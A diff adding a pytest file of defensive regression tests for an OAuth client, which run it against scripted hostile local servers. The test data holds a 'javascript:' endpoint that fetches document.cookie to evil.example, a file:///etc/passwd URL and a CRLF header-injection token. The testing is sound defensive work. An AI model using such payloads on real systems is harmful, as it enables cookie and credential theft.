@@ -1,0 +1,298 @@
+"""Hostile authorization servers and resource servers against the OAuth client.
+
+Each test is a regression test of a defect found by attacking the client:
+a ``WWW-Authenticate`` header that took minutes to read, an authorization
+server over plain HTTP (or naming a ``javascript:`` authorization
+endpoint), metadata without PKCE S256, a token endpoint that redirects
+(the code, the verifier and the client's secret were sent on), token
+responses of a type the client cannot present or with an access token that
+is not one, lifetimes that are not lifetimes, an empty ``client_id`` from
+registration, and answers trickled or endless. The peers are real sockets on
+127.0.0.1: ``servers/scripted_auth.py`` (a working authorization server and
+resource, each route scriptable) and ``servers/trickler.py`` (answers as
+slowly as a test says). ``0.0.0.0`` reaches this machine without being a
+loopback name: it stands for "a host across the network".
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+import requests
+from servers.scripted_auth import Reply, ScriptedAuth, ScriptedServer
+from servers.trickler import Trickler
+
+from mcp_sync import MCPError
+from mcp_sync.client.auth import OAuth
+from mcp_sync.client.auth import oauth as oauth_module
+from mcp_sync.client.auth.discovery import Challenge, secure_url
+
+TIMEOUT = 10.0
+PING = {"jsonrpc": "2.0", "id": 1, "method": "ping"}
+REDIRECT = "http://127.0.0.1:8976/callback"
+
+
+class Robot:
+    """A person who approves every sign-in at once; ``urls`` are the authorization URLs shown to them."""
+
+    def __init__(self, auth: ScriptedAuth, answer: Callable[[str], str] | None = None) -> None:
+        self.auth, self.answer = auth, answer
+        self.redirect_uri = REDIRECT
+        self.urls: list[str] = []
+
+    def authorize(self, url: str, timeout: float) -> str:
+        self.urls.append(url)
+        return self.answer(url) if self.answer is not None else self.auth.approve(url)
+
+
+@pytest.fixture
+def auth() -> Iterator[ScriptedAuth]:
+    with ScriptedAuth() as server:
+        yield server
+
+
+@pytest.fixture
+def thief() -> Iterator[ScriptedServer]:
+    with ScriptedServer() as server:
+        server.on("POST", "/token", Reply(json={"access_token": "stolen", "token_type": "Bearer"}))
+        yield server
+
+
+def reason(error: pytest.ExceptionInfo[MCPError]) -> str:
+    data = error.value.data
+    assert isinstance(data, dict), data
+    return str(data["reason"])
+
+
+def sign_in(auth: ScriptedAuth, **options: Any) -> tuple[OAuth, Robot]:
+    robot = Robot(auth)
+    return OAuth(interaction=robot, **options), robot
+
+
+def ping(oauth: OAuth, url: str) -> requests.Response:
+    return requests.post(url, json=PING, auth=oauth, timeout=TIMEOUT)
+
+
+# --------------------------------------------------------------------- the challenge
+
+
+def test_a_huge_www_authenticate_header_is_read_in_one_pass() -> None:
+    # 100 KB of one unbroken word before the parameters: each start position was tried (minutes).
+    header = "Bearer " + "a" * 100_000 + ', error="insufficient_scope", scope="files:write"'
+    challenge = Challenge.parse(header)
+    assert challenge.error == "insufficient_scope" and challenge.scope == "files:write"
+
+
+# ------------------------------------------------------------ where the servers are
+
+
+def test_only_https_or_this_machine_is_an_authorization_server() -> None:
+    assert secure_url("https://auth.example/t") and secure_url("http://localhost:9/t")
+    assert secure_url("http://127.0.0.2/t") and secure_url("http://[::1]:9/t")
+    for url in ("http://auth.example/t", "http://0.0.0.0:9/t", "javascript:alert(1)", "file:///etc/passwd", "https:"):
+        assert not secure_url(url), url
+
+
+def test_an_authorization_server_over_plain_http_is_refused_unasked(auth: ScriptedAuth) -> None:
+    away = f"http://0.0.0.0:{auth.port}"  # this very server, under a name that is not loopback
+    auth.resource_metadata["authorization_servers"] = [away]
+    auth.metadata.update(issuer=away, authorization_endpoint=away + "/authorize", token_endpoint=away + "/token")
+    oauth, robot = sign_in(auth)
+    with pytest.raises(MCPError) as refused:
+        oauth.login(auth.resource)
+    assert reason(refused) == "insecure_url"
+    assert robot.urls == [] and auth.received("/.well-known/oauth-authorization-server") == []
+
+
+@pytest.mark.parametrize(
+    "endpoint", ["token_endpoint", "authorization_endpoint", "registration_endpoint"], ids=lambda name: name
+)
+def test_metadata_naming_an_endpoint_over_plain_http_is_refused(auth: ScriptedAuth, endpoint: str) -> None:
+    auth.metadata[endpoint] = f"http://0.0.0.0:{auth.port}/{endpoint}"
+    oauth, robot = sign_in(auth)
+    with pytest.raises(MCPError) as refused:
+        oauth.login(auth.resource)
+    assert reason(refused) == "insecure_url"
+    assert robot.urls == [] and auth.received("/token") == [] and auth.received("/register") == []
+
+
+def test_a_javascript_authorization_endpoint_is_never_shown(auth: ScriptedAuth) -> None:
+    auth.metadata["authorization_endpoint"] = "javascript:fetch('https://evil.example/'+document.cookie)"
+    oauth, robot = sign_in(auth)
+    with pytest.raises(MCPError) as refused:
+        oauth.login(auth.resource)
+    assert reason(refused) == "insecure_url" and robot.urls == []
+
+
+# ----------------------------------------------------------------------------- PKCE
+
+
+@pytest.mark.parametrize("methods", [None, ["plain"], []], ids=["absent", "plain-only", "empty"])
+def test_metadata_without_pkce_s256_refuses_the_sign_in(auth: ScriptedAuth, methods: list[str] | None) -> None:
+    if methods is None:
+        del auth.metadata["code_challenge_methods_supported"]
+    else:
+        auth.metadata["code_challenge_methods_supported"] = methods
+    oauth, robot = sign_in(auth)
+    with pytest.raises(MCPError) as refused:
+        oauth.login(auth.resource)
+    assert reason(refused) == "pkce_unsupported"
+    assert robot.urls == [] and auth.received("/register") == []
+
+
+# ---------------------------------------------------------------- redirects
+
+
+def test_a_token_endpoint_that_redirects_is_not_followed(auth: ScriptedAuth, thief: ScriptedServer) -> None:
+    auth.on("POST", "/token", Reply(307, headers={"Location": thief.url + "/token"}))
+    oauth, robot = sign_in(
+        auth, client_id="app", client_secret="app-s3cret", token_endpoint_auth_method="client_secret_post"
+    )
+    with pytest.raises(MCPError) as refused:
+        oauth.login(auth.resource)
+    assert reason(refused) == "token_request_failed" and "307" in refused.value.message
+    assert thief.received() == []  # the code, its verifier and the secret stayed where they were sent
+    assert len(robot.urls) == 1
+
+
+def test_a_registration_endpoint_that_redirects_is_not_followed(auth: ScriptedAuth, thief: ScriptedServer) -> None:
+    thief.on("POST", "/register", Reply(201, {"client_id": "planted"}))
+    auth.on("POST", "/register", Reply(308, headers={"Location": thief.url + "/register"}))
+    oauth, _ = sign_in(auth)
+    with pytest.raises(MCPError) as refused:
+        oauth.login(auth.resource)
+    assert reason(refused) == "registration_failed" and thief.received() == []
+
+
+# --------------------------------------------------------------- token responses
+
+
+def issuing(auth: ScriptedAuth, **changes: Any) -> None:
+    """Make the token endpoint's answers carry ``changes`` (a value of ``None`` removes a field)."""
+    grant = auth._grant
+
+    def changed(scope: str | None, resource: str | None) -> dict[str, Any]:
+        answer = {**grant(scope, resource), **changes}
+        return {name: value for name, value in answer.items() if value is not None}
+
+    auth._grant = changed  # type: ignore[method-assign]
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        pytest.param({"token_type": "mac"}, id="mac"),
+        pytest.param({"token_type": "DPoP"}, id="dpop-unasked"),
+        pytest.param({"access_token": ""}, id="empty"),
+        pytest.param({"access_token": "a b"}, id="a-space"),
+        pytest.param({"access_token": "good\r\nX-Planted: 1"}, id="a-header-injection"),
+        pytest.param({"access_token": "caf\u00e9"}, id="not-ascii"),
+    ],
+)
+def test_a_token_the_client_cannot_present_is_refused(auth: ScriptedAuth, changes: dict[str, Any]) -> None:
+    issuing(auth, **changes)
+    oauth, _ = sign_in(auth)
+    with pytest.raises(MCPError) as refused:
+        oauth.login(auth.resource)
+    assert reason(refused) == "token_request_failed"
+    assert oauth.tokens(auth.resource) is None
+
+
+def test_a_lowercase_bearer_type_is_a_bearer_token(auth: ScriptedAuth) -> None:
+    issuing(auth, token_type="bearer")
+    oauth, _ = sign_in(auth)
+    assert ping(oauth, auth.resource).status_code == 200
+
+
+@pytest.mark.parametrize("lifetime", [-60, 0, float("nan"), float("inf")], ids=["negative", "zero", "nan", "inf"])
+def test_a_lifetime_that_is_not_one_is_unknown_and_never_refreshed_on(auth: ScriptedAuth, lifetime: float) -> None:
+    auth.expires_in = lifetime
+    oauth, _ = sign_in(auth)
+    for _ in range(3):
+        assert ping(oauth, auth.resource).status_code == 200
+    tokens = oauth.tokens(auth.resource)
+    assert tokens is not None and tokens.expires_in is None and tokens.expires_at is None
+    # One sign-in; no refresh before each request (a negative lifetime made every request refresh).
+    assert [r.form["grant_type"] for r in auth.received("/token")] == ["authorization_code"]
+
+
+def test_a_lifetime_as_a_string_of_digits_is_read_and_any_other_string_refused(auth: ScriptedAuth) -> None:
+    auth.expires_in = "3600"  # type: ignore[assignment]
+    oauth, _ = sign_in(auth)
+    tokens = oauth.login(auth.resource)
+    assert tokens is not None and tokens.expires_in == 3600
+    auth.expires_in = "soon"  # type: ignore[assignment]
+    with pytest.raises(MCPError) as refused:
+        sign_in(auth)[0].login(auth.resource)
+    assert reason(refused) == "token_request_failed"
+
+
+def test_a_resource_that_refuses_every_token_is_given_up_on(auth: ScriptedAuth) -> None:
+    oauth, robot = sign_in(auth)
+    assert ping(oauth, auth.resource).status_code == 200
+    auth.on("POST", "/mcp", lambda request: Reply(401, headers={"WWW-Authenticate": auth.challenge("invalid_token")}))
+    assert ping(oauth, auth.resource).status_code == 401  # one refresh, then that 401 is the answer
+    assert [r.form["grant_type"] for r in auth.received("/token")] == ["authorization_code", "refresh_token"]
+    assert len(robot.urls) == 1
+
+
+@pytest.mark.parametrize("answer", [{"client_secret": "x"}, {"client_id": ""}], ids=["missing", "empty"])
+def test_a_registration_without_a_client_id_is_refused(auth: ScriptedAuth, answer: dict[str, Any]) -> None:
+    auth.on("POST", "/register", Reply(201, answer))
+    oauth, robot = sign_in(auth)
+    with pytest.raises(MCPError) as refused:
+        oauth.login(auth.resource)
+    assert reason(refused) == "registration_failed" and robot.urls == []
+
+
+# ------------------------------------------------------------- slow and endless answers
+
+
+@pytest.fixture
+def short_timeout(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(oauth_module, "HTTP_TIMEOUT", 0.5)
+
+
+@pytest.fixture
+def trickled() -> Iterator[list[Trickler]]:
+    made: list[Trickler] = []
+    yield made
+    for each in made:
+        each.close()
+
+
+def test_a_trickled_token_answer_is_given_up_on(
+    auth: ScriptedAuth, short_timeout: None, trickled: list[Trickler]
+) -> None:
+    tokens = json.dumps({"access_token": "slow", "token_type": "Bearer"}).encode() + b" " * 2000
+    slow = Trickler(tokens, pace=0.05)  # 100 s, were it waited for
+    trickled.append(slow)
+    auth.metadata["token_endpoint"] = slow.url + "/token"
+    oauth, _ = sign_in(auth)
+    with pytest.raises(MCPError, match="did not finish") as refused:
+        oauth.login(auth.resource)
+    assert reason(refused) == "unreachable" and slow.sent < len(slow.body)
+
+
+def test_a_stalled_metadata_answer_is_skipped(
+    auth: ScriptedAuth, short_timeout: None, trickled: list[Trickler]
+) -> None:
+    stalled = Trickler(b"{}", stall=True)
+    trickled.append(stalled)
+    header = f'Bearer resource_metadata="{stalled.url}/prm"'
+    auth.on("POST", "/mcp", Reply(401, headers={"WWW-Authenticate": header}), auth._serve_resource)
+    oauth, _ = sign_in(auth)
+    assert ping(oauth, auth.resource).status_code == 200  # on to the well-known URL, which answers
+    assert stalled.requests == 1
+
+
+def test_an_endless_token_answer_is_refused(auth: ScriptedAuth) -> None:
+    padding = " " * (oauth_module.MAX_ANSWER_BYTES + 1)
+    auth.on("POST", "/token", Reply(body='{"access_token": "big", "token_type": "Bearer"}' + padding))
+    oauth, _ = sign_in(auth)
+    with pytest.raises(MCPError, match="longer than") as refused:
+        oauth.login(auth.resource)
+    assert reason(refused) == "unreachable"
